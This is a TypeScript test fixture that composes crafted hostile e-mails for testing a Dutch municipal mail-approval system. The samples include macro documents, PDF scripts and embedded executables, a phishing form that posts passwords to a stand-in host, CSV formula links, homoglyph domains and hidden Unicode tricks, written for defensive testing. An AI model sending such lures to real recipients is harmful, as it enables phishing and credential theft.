/**
 * Crafted hostile letters, one per way of walking around the approval step (issue "What the griffier approves is
 * exactly what the raadsleden receive"). Written for these tests; every name, domain and text is made up. Each is a
 * complete raw message composed with nodemailer's MailComposer, sent through the local SMTP intake by the tests.
 */
import MailComposer from 'nodemailer/lib/mail-composer';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import type { RiskCode } from '../../shared/domain/risks.js';
import { docx, odt, relationship, zip } from './documents.js';
import { writeRawPdf } from './pdf.js';

export interface AttackLetter {
  readonly name: string;
  readonly raw: Buffer;
  readonly envelope: { readonly from: string; readonly to: readonly string[] };
  readonly subject: string;
  /** The risks Raadspost must name. */
  readonly risks: readonly RiskCode[];
  /** Whether it must be offered for approval at all (loops never are). */
  readonly offered: boolean;
  /** Attachments that may go to the raadsleden (all others must stay home). */
  readonly forwardable: readonly string[];
  /** Something the page must show so the griffier sees the trick. */
  readonly pageShows: readonly string[];
}

const GRIFFIE = 'griffie@heemstede.nl';
const MINIMAL_PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  'latin1',
);

const LETTER_OPENING = [
  'Geachte leden van de gemeenteraad,',
  '',
  'Namens de bewonersvereniging Oude Dorp vragen wij u aandacht voor het plan om de speeltuin aan de Schoolstraat te verplaatsen.',
  'Wij verzoeken de griffie deze brief door te sturen aan alle raadsleden.',
].join('\n');

const compose = async (
  name: string,
  options: {
    from: string;
    subject: string;
    text?: string;
    html?: string;
    headers?: Record<string, string>;
    attachments?: { filename: string; content: Buffer; contentType: string; contentDisposition?: 'inline' | 'attachment' }[];
  },
): Promise<Buffer> =>
  new MailComposer({
    from: options.from,
    to: GRIFFIE,
    subject: options.subject,
    ...(options.text !== undefined && { text: options.text }),
    ...(options.html && { html: options.html }),
    date: new Date('2026-03-02T09:00:00Z'),
    messageId: `<${name}@attack.test>`,
    headers: options.headers ?? {},
    attachments: options.attachments ?? [],
  })
    .compile()
    .build();

const envelopeFrom = (from: string) => /<([^>]+)>/.exec(from)?.[1] ?? from;

const letter = async (
  name: string,
  spec: Omit<AttackLetter, 'name' | 'raw' | 'envelope' | 'subject'> & Parameters<typeof compose>[1],
): Promise<AttackLetter> => ({
  name,
  raw: await compose(name, spec),
  envelope: { from: envelopeFrom(spec.from), to: [GRIFFIE] },
  subject: spec.subject,
  risks: spec.risks,
  offered: spec.offered,
  forwardable: spec.forwardable,
  pageShows: spec.pageShows,
});

/** A Word file with macros that also loads its template from elsewhere (begroting.docx of the review). */
const MACRO_DOCX = docx({
  parts: {
    'word/vbaProject.bin': Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub AutoOpen()\nShell "calc"\nEnd Sub', 'latin1'),
    'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship('rId1', 'attachedTemplate', 'https://raadsportaal.example/raad.dotm', true)}</Relationships>`,
  },
});

/** A PDF whose action on opening is JavaScript, kept in a compressed object stream as Word and pdf-lib write PDFs. */
const scriptedPdf = async (): Promise<Buffer> => {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]);
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("Raadsinformatie: log opnieuw in")') }));
  return Buffer.from(await doc.save({ useObjectStreams: true }));
};

/** A forwarded e-mail (as an attachment) that carries a program. */
const forwardedWithProgram = async (): Promise<Buffer> =>
  new MailComposer({
    from: 'Buurtbewoner <bewoner@oudedorp-bewoners.nl>',
    to: 'bestuur@oudedorp-bewoners.nl',
    subject: 'Plattegrond speeltuin',
    text: 'Hierbij de plattegrond.',
    attachments: [{ filename: 'Plattegrond.exe', content: Buffer.from('MZ\x90\x00\x03\x00', 'latin1'), contentType: 'application/octet-stream' }],
  })
    .compile()
    .build();

/** Every attack, each a letter that the classifier offers for forwarding unless the attack is a loop. */
export async function attackLetters(): Promise<AttackLetter[]> {
  const token = 'Rq7_-'.repeat(8) + 'x2Z';
  return Promise.all([
    letter('quoted-link', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (quoted)',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nhet bestuur\n\n> Op 1 maart schreef de griffie:\n> Log in op https://raad-heemstede.evil.example/login om uw brief te registreren.`,
      risks: [],
      offered: true,
      forwardable: [],
      pageShows: ['&gt; Log in op https://raad-heemstede.evil.example/login', '<span class="host">raad-heemstede.evil.example</span>'],
    }),
    letter('late-link', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (late link)',
      text: `${LETTER_OPENING}\n\n${'Wij hebben de buurt gesproken en de bezwaren verzameld. '.repeat(20)}\n\nDe handtekeningen staan op https://petitie-oudedorp.example.com/teken?ref=raad\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: [],
      offered: true,
      forwardable: [],
      pageShows: ['<span class="host">petitie-oudedorp.example.com</span>'],
    }),
    letter('link-beside-pdf', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (pdf)',
      text: 'Geachte raad, onze brief zit in de bijlage. Graag doorsturen aan de raadsleden. Zie ook https://oudedorp-bewoners.nl.example.org/stukken',
      attachments: [{ filename: 'Brief aan de gemeenteraad.pdf', content: MINIMAL_PDF, contentType: 'application/pdf' }],
      risks: [],
      offered: true,
      forwardable: ['Brief aan de gemeenteraad.pdf'],
      pageShows: ['<span class="host">oudedorp-bewoners.nl.example.org</span>', 'Brief aan de gemeenteraad.pdf'],
    }),
    letter('dangerous-attachments', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (bijlagen)',
      text: `${LETTER_OPENING}\n\nDe brief en de bijlagen vindt u hierbij.\n\nMet vriendelijke groet,\nhet bestuur`,
      attachments: [
        { filename: 'Brief aan de raad.pdf', content: MINIMAL_PDF, contentType: 'application/pdf' },
        { filename: 'Begroting speeltuin.docm', content: Buffer.from('PK\x03\x04 word/vbaProject.bin', 'latin1'), contentType: 'application/vnd.ms-word.document.macroEnabled.12' },
        { filename: 'Inloggen raadsinformatie.html', content: Buffer.from('<html><form action="https://evil.example/p"><input type="password" name="pw"></form></html>'), contentType: 'text/html' },
        { filename: 'Handtekeningen.pdf.lnk', content: Buffer.from('L\x00\x00\x00\x01\x14\x02\x00', 'latin1'), contentType: 'application/octet-stream' },
        { filename: 'Plattegrond.exe', content: Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), contentType: 'application/octet-stream' },
        { filename: 'Foto speeltuin.pdf', content: Buffer.from('MZ\x90\x00 pretending', 'latin1'), contentType: 'application/pdf' },
      ],
      risks: ['dangerous_attachment'],
      offered: true,
      forwardable: ['Brief aan de raad.pdf'],
      pageShows: ['Begroting speeltuin.docm', 'Niet doorgestuurd: Office-bestand dat macro’s kan bevatten', 'Handtekeningen.pdf.lnk', 'Plattegrond.exe', 'Niet doorgestuurd: de inhoud past niet bij de bestandsnaam'],
    }),
    letter('hostile-documents', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (documenten)',
      text: `${LETTER_OPENING}\n\nDe brief, de begroting, de zienswijze en de handtekeningen vindt u hierbij.\n\nMet vriendelijke groet,\nhet bestuur`,
      attachments: [
        { filename: 'Brief aan de raad.pdf', content: MINIMAL_PDF, contentType: 'application/pdf' },
        { filename: 'Toelichting.docx', content: docx(), contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
        { filename: 'Begroting.docx', content: MACRO_DOCX, contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
        {
          filename: 'Zienswijze.odt',
          content: odt({ head: '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="office:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>' }),
          contentType: 'application/vnd.oasis.opendocument.text',
        },
        { filename: 'Zienswijze.rtf', content: Buffer.from('{\\rtf1\\ansi Zienswijze\\par{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}', 'latin1'), contentType: 'application/rtf' },
        { filename: 'Oproep.pdf', content: await scriptedPdf(), contentType: 'application/pdf' },
        {
          filename: 'Bijlage.pdf',
          content: Buffer.from(writeRawPdf(['<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(handtekeningen.exe) 4 0 R] >> >> >>', '<< /Type /Pages /Kids [] /Count 0 >>', '<< /Type /Page >>', '<< /Type /Filespec /F (handtekeningen.exe) >>'])),
          contentType: 'application/pdf',
        },
        { filename: 'Handtekeningen.csv', content: Buffer.from('naam,adres\n=HYPERLINK("https://raadsportaal.example/login";"Klik om de lijst te openen"),Schoolstraat 1\n'), contentType: 'text/csv' },
        { filename: 'Adressen.csv', content: Buffer.from('naam;adres;telefoon\nA. de Vries;Schoolstraat 1;+31 6 1234 5678\n'), contentType: 'text/csv' },
        { filename: 'Handtekeningen.docx', content: zip([{ name: 'Handtekeningen.exe', data: Buffer.from('MZ\x90\x00', 'latin1') }]), contentType: 'application/octet-stream' },
        { filename: 'Notulen.docx', content: docx().subarray(0, 400), contentType: 'application/octet-stream' },
        { filename: 'Doorgestuurd.msg', content: Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'), contentType: 'application/vnd.ms-outlook' },
        { filename: 'Plattegrond.eml', content: await forwardedWithProgram(), contentType: 'message/rfc822', contentDisposition: 'attachment' },
      ],
      risks: ['dangerous_attachment'],
      offered: true,
      forwardable: ['Brief aan de raad.pdf', 'Toelichting.docx', 'Adressen.csv'],
      pageShows: [
        'Begroting.docx <span class="bad">Niet doorgestuurd: document met macro’s: programmacode die bij het openen kan starten',
        'Zienswijze.odt <span class="bad">Niet doorgestuurd: document met macro’s',
        'Zienswijze.rtf <span class="bad">Niet doorgestuurd: document met een ingesloten object of programma dat bij het openen of aanklikken kan starten',
        'Oproep.pdf <span class="bad">Niet doorgestuurd: pdf met ingebouwde code of acties',
        'Bijlage.pdf <span class="bad">Niet doorgestuurd: pdf met ingebouwde code of acties',
        'Handtekeningen.csv <span class="bad">Niet doorgestuurd: tabel met formules die bij het openen in Excel een programma of website kunnen openen',
        'Handtekeningen.docx <span class="bad">Niet doorgestuurd: de inhoud past niet bij de bestandsnaam',
        'Notulen.docx <span class="bad">Niet doorgestuurd: kon niet worden gecontroleerd',
        'Doorgestuurd.msg <span class="bad">Niet doorgestuurd: Outlook-bericht (.msg)',
        'Plattegrond.eml <span class="bad">Niet doorgestuurd: doorgestuurd e-mailbericht met een eigen bijlage die niet mee mag: &quot;Plattegrond.exe&quot;',
        'vraag de afzender dan om het als gewone pdf te sturen',
      ],
    }),
    letter('impersonation', {
      from: '"Griffie Heemstede" <griffie.heemstede@gmail.com>',
      subject: 'Brief aan de raad: verzoek om spoedige verspreiding',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nGriffie Heemstede`,
      risks: ['impersonation'],
      offered: true,
      forwardable: [],
      pageShows: ['De afzender noemt zich &quot;Griffie Heemstede&quot;', 'de griffie (de afzender doet zich voor als de gemeente'],
    }),
    letter('lookalike-words', {
      from: 'Gemeente Heemstede Raadsinformatie <raad@heemstede-gemeente.nl>',
      subject: 'Brief aan de raad: nieuwe raadsinformatie',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['impersonation', 'lookalike_domain'],
      offered: true,
      forwardable: [],
      pageShows: ['heemstede-gemeente.nl, een nagemaakte variant van heemstede.nl'],
    }),
    letter('lookalike-homoglyph', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@h\u0435emstede.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (homoglyph)',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['lookalike_domain'],
      offered: true,
      forwardable: [],
      pageShows: ['met letters die er hetzelfde uitzien maar anders zijn dan in heemstede.nl'],
    }),
    letter('hidden-text', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad\u200b: speeltuin\u2060 Schoolstraat',
      text: `\ufeff${LETTER_OPENING}\n\nBetaal de bijdrage op rekening NL\u202e10 BANK 0123\u202c 4567 89.\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['hidden_text'],
      offered: true,
      forwardable: [],
      pageShows: ['<mark class="hidden-char">onzichtbaar teken</mark>'],
    }),
    letter('unsubscribe-footer', {
      from: 'Bewonersvereniging Oude Dorp <nieuws@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (nieuwsbriefdienst)',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nhet bestuur\n\nU ontvangt dit bericht omdat u bent ingeschreven.\nAfmelden: https://mail.nieuwsbriefdienst.example.com/u/abc123`,
      headers: { 'List-Unsubscribe': '<https://mail.nieuwsbriefdienst.example.com/u/abc123>, <mailto:unsub-abc123@nieuwsbriefdienst.example.com>' },
      risks: [],
      offered: true,
      forwardable: [],
      pageShows: ['Uit de tekst gehaald, zodat geen raadslid de griffie per ongeluk afmeldt'],
    }),
    letter('link-read-on', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (stukken)',
      text: `${LETTER_OPENING}\n\nDe stukken: https://raad.heemstede.nl%2estukken-oudedorp.example/inloggen en raad.heemstede.nl\u3002stukken-oudedorp.example\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['lookalike_domain'],
      offered: true,
      forwardable: [],
      pageShows: ['<span class="host">raad.heemstede.nl.stukken-oudedorp.example</span>'],
    }),
    letter('network-path', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (netwerkmap)',
      text: `${LETTER_OPENING}\n\nDe tekening staat op \\\\tekeningen.oudedorp-bewoners.example\\speeltuin\\ontwerp.pdf\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['network_path'],
      offered: true,
      forwardable: [],
      pageShows: ['<span class="host">tekeningen.oudedorp-bewoners.example</span>', 'een verwijzing naar een bestand op een andere computer'],
    }),
    letter('link-in-subject', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: stukken staan op heemstede-raad.nl',
      text: `${LETTER_OPENING}\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['lookalike_domain'],
      offered: true,
      forwardable: [],
      pageShows: ['<span class="host">heemstede-raad.nl</span> <span class="small">(in het onderwerp)</span>', 'Een link in het onderwerp gebruikt heemstede-raad.nl'],
    }),
    letter('many-links-then-one', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (bronnen)',
      text: `${LETTER_OPENING}\n\nBronnen:\n${Array.from({ length: 320 }, (_, i) => `https://oudedorp-bewoners.nl/bron/${i}`).join('\n')}\nhttps://heemstede-gemeente.nl/raad\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['lookalike_domain'],
      offered: true,
      forwardable: [],
      pageShows: ['<span class="host">heemstede-gemeente.nl</span>', 'En nog 21 links naar websites die hierboven al staan.'],
    }),
    letter('html-letter-beside-pdf', {
      from: 'Bewonersvereniging Oude Dorp <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (html)',
      html: `<p>${LETTER_OPENING.replace(/\n\n/g, '</p><p>')}</p><p>Met vriendelijke groet,<br>het bestuur</p>`,
      attachments: [{ filename: 'Tekening.pdf', content: MINIMAL_PDF, contentType: 'application/pdf', contentDisposition: 'inline' }],
      risks: [],
      offered: true,
      forwardable: ['Tekening.pdf'],
      pageShows: ['Namens de bewonersvereniging Oude Dorp vragen wij u aandacht', 'Tekening.pdf'],
    }),
    letter('invisible-filler-name', {
      from: '"\u3164Bewonersvereniging\u2800Oude Dorp" <bestuur@oudedorp-bewoners.nl>',
      subject: 'Brief aan de raad: speeltuin Schoolstraat (naam)',
      text: `${LETTER_OPENING}\u3164\n\nMet vriendelijke groet,\nhet bestuur`,
      risks: ['hidden_text'],
      offered: true,
      forwardable: [],
      pageShows: ['<mark class="hidden-char">onzichtbaar teken</mark>', 'in de naam van de afzender'],
    }),
    letter('out-of-office-quoting-forward', {
      from: 'A. Raadslid <a.raadslid@ziggo.nl>',
      subject: 'Automatisch antwoord: 12. Brief aan de raad: speeltuin Schoolstraat',
      text: [
        'Ik ben afwezig tot 10 maart en lees mijn mail daarna.',
        '',
        '> Geachte raadsleden,',
        '> Hierbij ontvangt u een ingekomen stuk voor de gemeenteraad van Heemstede.',
        '> Nummer: 12',
        '> Kenmerk Raadspost: 0000aaaa-bbbb',
      ].join('\n'),
      headers: { 'Auto-Submitted': 'auto-replied' },
      risks: ['auto_submitted', 'own_mail_returned'],
      offered: false,
      forwardable: [],
      pageShows: [],
    }),
    letter('approval-mail-forwarded-back', {
      from: 'Collega Secretariaat <secretariaat@ziggo.nl>',
      subject: 'Fwd: Nieuwe brief voor de raad: speeltuin Schoolstraat',
      text: [
        'Geachte raad, zie hieronder, wilt u dit doorsturen aan de raadsleden?',
        '',
        '---------- Forwarded message ---------',
        'Bekijk en beslis:',
        `https://abc.lambda-url.eu-west-1.on.aws/?t=${'Q'.repeat(43)}`,
      ].join('\n'),
      risks: ['own_mail_returned'],
      offered: false,
      forwardable: [],
      pageShows: [],
    }),
    letter('approval-link-behind-safelinks', {
      from: 'Collega Secretariaat <secretariaat@ziggo.nl>',
      subject: 'Fwd: Nieuwe brief voor de raad (Safe Links)',
      text: [
        'Geachte raad, wilt u dit doorsturen aan de raadsleden?',
        '',
        `Bekijk en beslis: https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fabc.lambda-url.eu-west-1.on.aws%2F%3Ft%3D${token}&data=05%7C02%7C`,
      ].join('\n'),
      risks: ['own_mail_returned'],
      offered: false,
      forwardable: [],
      pageShows: [],
    }),
    letter('approval-link-wrapped-in-reply', {
      from: 'Collega Secretariaat <secretariaat@ziggo.nl>',
      subject: 'Re: Nieuwe brief voor de raad (afgebroken link)',
      text: [
        'Geachte raad, hieronder de brief; graag doorsturen aan de raadsleden.',
        '',
        '> Bekijk en beslis:',
        `> https://abc.lambda-url.eu-west-1.on.aws/?t=${token.slice(0, 25)}`,
        `> ${token.slice(25)}`,
      ].join('\n'),
      risks: ['own_mail_returned'],
      offered: false,
      forwardable: [],
      pageShows: [],
    }),
  ]);
}
